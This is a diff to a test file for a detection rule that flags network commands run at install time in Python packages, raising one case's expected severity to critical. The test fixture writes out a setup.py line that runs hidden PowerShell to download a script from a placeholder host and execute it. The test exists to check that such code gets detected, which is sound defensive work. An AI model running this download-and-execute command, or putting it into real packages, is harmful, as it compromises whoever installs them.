@@ -30,7 +30,7 @@ ruleTest(rule, {
       name: 'top-level os.system in setup.py',
       file: 'setup.py',
       code: `import os\nos.system("powershell -w hidden -c iwr http://x.example.net/a.ps1 | iex")\nsetup(name="p")\n`,
-      findings: [{ line: 2, severity: 'high' }],
+      findings: [{ line: 2, severity: 'critical', message: /Runs a network command at install time/ }],
     },
     {
       name: '__init__ import-time request',
